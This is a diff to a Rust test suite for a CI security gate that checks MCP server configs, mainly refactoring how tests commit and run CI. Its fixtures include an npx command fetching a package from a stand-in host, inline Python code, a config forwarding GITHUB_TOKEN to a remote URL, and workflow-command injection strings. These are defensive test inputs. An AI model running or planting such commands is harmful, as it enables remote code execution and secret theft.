@@ -37,6 +37,29 @@ fn grade_of(stdout: &str, id: &str) -> Option<String> {
     })
 }
 
+/// Commit the working tree as a pull request's head and run `ci` on it against
+/// a fresh fake GitHub.
+fn pr_run(p: &Path, base: &str, message: &str) -> (super::ci::Run, Fake) {
+    let head = commit(p, message);
+    let api = Fake::start();
+    let r = run_ci(
+        p,
+        "pull_request",
+        &pr_event(p, base, &head, false),
+        &api,
+        &[],
+    );
+    (r, api)
+}
+
+/// Commit the working tree and run `ci` on a push of it.
+fn push_run(p: &Path, message: &str, extra: &[(&str, &str)]) -> (super::ci::Run, Fake) {
+    let head = commit(p, message);
+    let api = Fake::start();
+    let r = run_ci(p, "push", &push_event(p, &head), &api, extra);
+    (r, api)
+}
+
 // ------------------------------------------------------------------ hole 1
 
 /// Before: the policy was read from the head, so this PR's own file
@@ -68,15 +91,7 @@ fn a_pull_request_cannot_suppress_its_own_findings() {
         sup("MTC-INJ-SECRECY-1")
     );
     write(p, "mcptrustchecker.toml", &policy);
-    let head = commit(p, "poison, re-lock, and suppress it all");
-    let api = Fake::start();
-    let r = run_ci(
-        p,
-        "pull_request",
-        &pr_event(p, &base, &head, false),
-        &api,
-        &[],
-    );
+    let (r, api) = pr_run(p, &base, "poison, re-lock, and suppress it all");
     assert_eq!(r.code, 1, "{}", r.stdout);
     assert_eq!(r.output("grade").as_deref(), Some("F"));
     let body = &api.ours()[0].1;
@@ -233,15 +248,7 @@ fn configs_that_run_attacker_code_fail_the_gate() {
         "tgz": {"command": "npx", "args": ["-y", "https://x.example/pkg.tgz"]}
     }});
     write(p, ".mcp.json", &config.to_string());
-    let head = commit(p, "new servers");
-    let api = Fake::start();
-    let r = run_ci(
-        p,
-        "pull_request",
-        &pr_event(p, &base, &head, false),
-        &api,
-        &[],
-    );
+    let (r, _) = pr_run(p, &base, "new servers");
     assert_eq!(r.code, 1, "{}", r.stdout);
     for id in ["py", "js", "deno", "sh"] {
         assert_eq!(
@@ -358,13 +365,9 @@ fn spawned_servers_and_remote_hosts_never_get_the_jobs_secrets() {
         "remote": {"type": "http", "url": url, "headers": {"Authorization": "Bearer ${GITHUB_TOKEN}"}}
     }});
     write(p, ".cursor/mcp.json", &config.to_string());
-    let head = commit(p, "servers asking for secrets");
-    let api = Fake::start();
-    let r = run_ci(
+    let (r, _) = push_run(
         p,
-        "push",
-        &push_event(p, &head),
-        &api,
+        "servers asking for secrets",
         &[
             ("INPUT_LIVE", "true"),
             ("INPUT_PASS-ENV", "MY_PAT"),
@@ -427,15 +430,7 @@ fn the_sandbox_refuses_allowlisted_interpreters_given_inline_code() {
     let code = format!("open({:?}, 'w').write('x')", marker.to_string_lossy());
     let config = json!({"mcpServers": {"evil": {"command": "python3", "args": ["-c", code]}}});
     write(p, ".cursor/mcp.json", &config.to_string());
-    let head = commit(p, "inline code");
-    let api = Fake::start();
-    let r = run_ci(
-        p,
-        "push",
-        &push_event(p, &head),
-        &api,
-        &[("INPUT_LIVE", "true")],
-    );
+    let (r, _) = push_run(p, "inline code", &[("INPUT_LIVE", "true")]);
     assert!(
         !marker.exists(),
         "ci --live ran the inline code:\n{}",
@@ -504,15 +499,7 @@ fn lockfile_ids_outside_the_workspace_are_never_read() {
         "mcptrustchecker.lock",
         &serde_json::to_string_pretty(&lockv).unwrap(),
     );
-    let head = commit(p, "lockfile entries outside");
-    let api = Fake::start();
-    let r = run_ci(
-        p,
-        "pull_request",
-        &pr_event(p, &base, &head, false),
-        &api,
-        &[],
-    );
+    let (r, api) = pr_run(p, &base, "lockfile entries outside");
     let _ = std::fs::remove_file(&abs);
     assert_nothing_from_outside(&r, &api);
     assert!(
@@ -603,9 +590,7 @@ fn scanned_text_never_becomes_a_workflow_command() {
         "servers/hostile/tools.json",
         &manifest(&[tool("##[group]t", "##[endgroup] Searches everything.")]),
     );
-    let head = commit(p, "hostile names");
-    let api = Fake::start();
-    let r = run_ci(p, "push", &push_event(p, &head), &api, &[]);
+    let (r, _) = push_run(p, "hostile names", &[]);
     assert!(
         r.stdout.contains("docs#<U+0023>[stop-commands]x"),
         "{}",
@@ -737,9 +722,7 @@ fn secrets_in_arguments_and_urls_are_redacted_everywhere_and_urls_stay_readable(
         &std::fs::read_to_string(p.join("mcptrustchecker.lock")).unwrap(),
     );
     // And CI: comment-less push run, summary, SARIF and log.
-    let head = commit(p, "secrets");
-    let api = Fake::start();
-    let r = run_ci(p, "push", &push_event(p, &head), &api, &[]);
+    let (r, _) = push_run(p, "secrets", &[]);
     assert_no_secret("ci log", &r.stdout);
     assert_no_secret("summary", &r.summary);
     assert_no_secret("sarif", &r.sarif.unwrap().to_string());
